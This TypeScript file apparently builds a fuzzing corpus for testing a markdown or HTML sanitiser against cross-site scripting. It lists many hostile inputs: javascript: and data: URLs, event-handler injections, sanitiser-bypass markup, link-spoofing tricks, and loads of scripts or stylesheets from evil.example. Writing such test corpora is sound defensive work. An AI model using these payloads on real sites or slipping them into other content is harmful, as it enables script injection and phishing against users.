import { words } from './words.ts';

/** Inputs that attempt to run a script, open a window or disguise a link. A script would call `alert`. */

const SCHEMES = [
  ...words(`
    javascript:alert(1) JaVaScRiPt:alert(1) javascript://%0aalert(1) javascript&colon;alert(1)
    javascript&#58;alert(1) javascript&#x3A;alert(1) &#106;avascript:alert(1) javascript:%61lert(1)
    javascript:alert(1)//https://a.example https:javascript:alert(1) j%61vascript:alert(1)
    data:text/html,<script>alert(1)</script> data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    data:image/svg+xml,<svg/onload=alert(1)> DATA:,alert(1) vbscript:alert(1) VbScRiPt:MsgBox(1)
    feed:javascript:alert(1) view-source:javascript:alert(1) jar:javascript:alert(1) blob:https://a.example/x
    file:///etc/passwd filesystem:https://a.example/x about:blank chrome://settings ms-its:x
    intent://x#Intent;end //evil.example ///evil.example https:evil.example@x
    https://bank.example@evil.example https://user:word@evil.example https://bank.example%40@evil.example
    https://bank.example#@evil.example http://[::1 https:// ftp://evil.example
    https://evil.example/"onmouseover="alert(1) https://evil.example/'onfocus='alert(1)
    mailto:a@b.example?body=<script>alert(1)</script> tel:+1";alert(1)// https://xn--80ak6aa92e.example
    ws://evil.example sms:1 skype:x?call cid:x urn:x res://x`),
  ...['javascript:alert`1`', '\x01javascript:alert(1)', '\x1fjavascript:alert(1)', 'java\tscript:alert(1)'],
  ...['java\r\nscript:alert(1)', 'javascript\u2028:alert(1)', '\u00a0javascript:alert(1)'],
  ...['\ufeffjavascript:alert(1)', '\u200bjavascript:alert(1)', '/\\evil.example', '\\\\evil.example'],
  ...['/\t/evil.example', 'https://bank.example\\@evil.example', 'https://evil.example/`-alert(1)-`'],
  ...['https://evil.example/\u202egpj.exe', 'https://moc.elgoog\u202e.example'],
];

const NAMED_LINKS = [
  ...words(`
    [[x](javascript:alert(1))](https://a.example) [x]([y](javascript:alert(1)))
    [x](https://a.example)(javascript:alert(1)) [x](<javascript:alert(1)>) ![x](javascript:alert(1))
    ![x](x"onerror="alert(1)) [x](https://a.example"onclick="alert(1))
    [https://bank.example](https://evil.example) [bank.example/evil.example](https://evil.example)
    <javascript:alert(1)> <https://a.example"onclick="alert(1)> [x](&#x6A;avascript:alert(1))
    ]()[x](javascript:alert(1) [](javascript:alert(1))`),
  ...['[x](javascript:alert(1) "title")', '[x][1]\n[1]: javascript:alert(1)'],
  ...['[<img src=x onerror=alert(1)>](https://a.example)', '[x](https://a.example\nonclick=alert(1))'],
  ...['[x\u202e](https://a.example)', '[\\](javascript:alert(1)'],
];

const MARKUP = [
  ...words(`
    <script>alert(1)</script> </script><script>alert(1)</script> <ScRiPt>alert(1)</sCrIpT>
    <script/src=//evil.example/x.js> <scr<script>ipt>alert(1)</scr</script>ipt> <<script>alert(1)//<</script>
    <img/src=x/onerror=alert(1)> <svg><script>alert(1)</script></svg>
    <style>@import"//evil.example/x.css"</style> <style>*{background:url(//evil.example)}</style> <plaintext>
    <!-- &lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3Ealert(1)%3C/script%3E
    +ADw-script+AD4-alert(1)+ADw-/script+AD4- {{constructor.constructor("alert(1)")()}} #{alert(1)} {alert(1)}
    ";alert(1);// ';alert(1);// "}];alert(1);// </title><script>alert(1)</script>
    </style><script>alert(1)</script> </textarea><script>alert(1)</script> */alert(1)/*
    {"$$typeof":"react.element","type":"script"} __proto__ constructor`),
  ...['<script\x0c>alert(1)</script>', '<script>alert`1`</script>', '<img src=x onerror=alert(1)>'],
  ...['<img src=x onerror="alert(1)"', '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>"],
  ...['`><img src=x onerror=alert(1)>', '--><img src=x onerror=alert(1)>', ']]><img src=x onerror=alert(1)>'],
  ...['<svg onload=alert(1)>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ...['<svg><set attributeName=onload to=alert(1)>', '<svg><use href="data:image/svg+xml,x"/>'],
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ...['<math href="javascript:alert(1)">x</math>', '<iframe src=javascript:alert(1)>'],
  ...['<iframe srcdoc="<script>alert(1)</script>">', '<embed src=javascript:alert(1)>'],
  ...['<object data=javascript:alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>'],
  ...['<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>'],
  ...['<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>'],
  ...['<textarea autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>'],
  ...['<a href="javascript:alert(1)">x</a>', '<a href=java&#9;script:alert(1)>x</a>'],
  ...['<form action=javascript:alert(1)><button>x', '<button formaction=javascript:alert(1)>x'],
  ...['<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ...['<link rel=stylesheet href=//evil.example/x.css>', '<div style="background:url(//evil.example)">'],
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  ...['<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><x/>'],
  ...['&#60;img src=x onerror=alert(1)&#62;', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'],
  ...['\\x3cscript\\x3ealert(1)', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'],
  ...['<\u0131mg src=x onerror=alert(1)>', `\${alert(1)}`, '<%= alert(1) %>', '\\";alert(1);//'],
  ...['{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}', '" onmouseover="alert(1)'],
  ...["' onmouseover='alert(1)", '"autofocus onfocus="alert(1)', '\u2028alert(1)//', '\u2029alert(1)//'],
  'x\u202e\u2066<script>alert(1)</script>',
];

/** Distinct texts of at most 100 characters. */
export const xssCorpus: readonly string[] = [
  ...new Set([...SCHEMES.flatMap((href) => [`[x](${href})`, href]), ...NAMED_LINKS, ...MARKUP]),
].filter((text) => text.length <= 100);
